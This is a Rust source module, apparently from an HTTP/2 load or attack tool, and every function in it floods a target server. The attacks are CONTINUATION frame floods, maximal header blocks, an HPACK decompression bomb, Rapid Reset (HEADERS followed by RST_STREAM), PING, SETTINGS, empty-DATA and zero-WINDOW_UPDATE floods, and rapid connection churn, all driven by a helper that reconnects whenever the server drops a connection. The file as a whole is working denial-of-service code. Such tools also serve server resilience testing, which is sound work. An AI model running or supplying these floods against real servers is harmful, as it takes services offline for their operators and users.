//! Frames as fast as the server takes them, on connections that are made again whenever it closes one.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use tokio::time::Instant;

use super::connect::{Shouting, connect};
use super::http2::*;
use super::{Size, Target};

/// Of what is said at once.
const BATCH: usize = 200;

/// Heads that go on and on.
pub async fn continuation(target: Arc<Target>, size: Size) -> String {
    let first = frame(HEADERS, 0, 1, &head(GET, None));
    let piece = frame(CONTINUATION, 0, 1, &[]).repeat(BATCH);
    flood(target, size, first, move |_| piece.clone()).await
}

/// Heads as long as a frame may be, of many fields.
pub async fn large_headers(target: Arc<Target>, size: Size) -> String {
    let mut block = head(GET, None);
    while block.len() < 16_000 {
        let at = block.len();
        literal(&mut block, &format!("x-{at}"), "v");
    }
    flood(target, size, vec![], move |at| frame(HEADERS, END_HEADERS | END_STREAM, id(at), &block)).await
}

/// A field of 4000 bytes, and a byte for each time that it is there again.
pub async fn hpack_bomb(target: Arc<Target>, size: Size) -> String {
    let value = "x".repeat(3900);
    let mut bomb = head(GET, None);
    bomb.push(0x40);
    for text in ["bomb", &value] {
        length(&mut bomb, text.len());
        bomb.extend_from_slice(text.as_bytes());
    }
    bomb.resize(16_000, 0x80 | 62);
    flood(target, size, vec![], move |at| frame(HEADERS, END_HEADERS | END_STREAM, id(at), &bomb)).await
}

/// Calls that are taken back at once.
pub async fn rapid_reset(target: Arc<Target>, size: Size) -> String {
    let head = head(GET, Some(&target.token));
    let calls = move |at: usize| {
        let call = |at| {
            [frame(HEADERS, END_HEADERS, id(at), &head), frame(RST_STREAM, 0, id(at), &[0, 0, 0, 8])].concat()
        };
        (at * BATCH..(at + 1) * BATCH).flat_map(call).collect()
    };
    flood(target, size, vec![], calls).await
}

pub async fn ping(target: Arc<Target>, size: Size) -> String {
    let pings = frame(PING, 0, 0, &[7; 8]).repeat(BATCH);
    flood(target, size, vec![], move |_| pings.clone()).await
}

pub async fn settings(target: Arc<Target>, size: Size) -> String {
    let settings = frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]).repeat(BATCH);
    flood(target, size, vec![], move |_| settings.clone()).await
}

/// On a call that is waited for.
pub async fn empty_data(target: Arc<Target>, size: Size) -> String {
    let first = frame(HEADERS, END_HEADERS, 1, &head(GET, Some(&target.token)));
    let data = frame(DATA, 0, 1, &[]).repeat(BATCH);
    flood(target, size, first, move |_| data.clone()).await
}

/// Each is an error of its stream.
pub async fn zero_window_updates(target: Arc<Target>, size: Size) -> String {
    let head = head(GET, Some(&target.token));
    let calls = move |at: usize| {
        let call = |at| {
            [frame(HEADERS, END_HEADERS, id(at), &head), frame(WINDOW_UPDATE, 0, id(at), &[0; 4])].concat()
        };
        (at * BATCH..(at + 1) * BATCH).flat_map(call).collect()
    };
    flood(target, size, vec![], calls).await
}

/// Connections that are closed as soon as they are there.
pub async fn connections(target: Arc<Target>, size: Size) -> String {
    let end = Instant::now() + size.time;
    let made = Arc::new(AtomicUsize::new(0));
    let mut workers = tokio::task::JoinSet::new();
    for worker in 0..size.connections {
        let (target, made) = (target.clone(), made.clone());
        workers.spawn(async move {
            while Instant::now() < end {
                let number = made.fetch_add(1, Ordering::Relaxed);
                // Reset rather than closed: a port that waits is none for the next.
                if let Some(socket) = connect(target.address, worker * 4000 + number % 4000).await {
                    let _ = socket.set_zero_linger();
                }
            }
        });
    }
    workers.join_all().await;
    format!("{} connections", made.load(Ordering::Relaxed))
}

fn id(at: usize) -> u32 {
    u32::try_from(2 * at + 1).expect("a connection does not last so long")
}

/// Says something first, and then more and more, again from the start on another connection when one is closed.
async fn flood(
    target: Arc<Target>,
    size: Size,
    first: Vec<u8>,
    more: impl Fn(usize) -> Vec<u8> + Clone + Send + 'static,
) -> String {
    let end = Instant::now() + size.time;
    let (sent, opened) = (Arc::new(AtomicUsize::new(0)), Arc::new(AtomicUsize::new(0)));
    let mut workers = tokio::task::JoinSet::new();
    for number in 0..size.connections {
        let (target, first, more) = (target.clone(), first.clone(), more.clone());
        let (sent, opened) = (sent.clone(), opened.clone());
        workers.spawn(async move {
            while Instant::now() < end {
                let Some(mut connection) = Shouting::settle(target.address, number, &beginning()).await
                else {
                    continue;
                };
                opened.fetch_add(1, Ordering::Relaxed);
                let mut at = 0;
                connection.say(&first, end).await;
                loop {
                    let bytes = more(at);
                    if !connection.say(&bytes, end).await {
                        break;
                    }
                    sent.fetch_add(bytes.len(), Ordering::Relaxed);
                    at += 1;
                }
            }
        });
    }
    workers.join_all().await;
    let (sent, opened) = (sent.load(Ordering::Relaxed), opened.load(Ordering::Relaxed));
    format!("{} MiB over {opened} connections", sent >> 20)
}
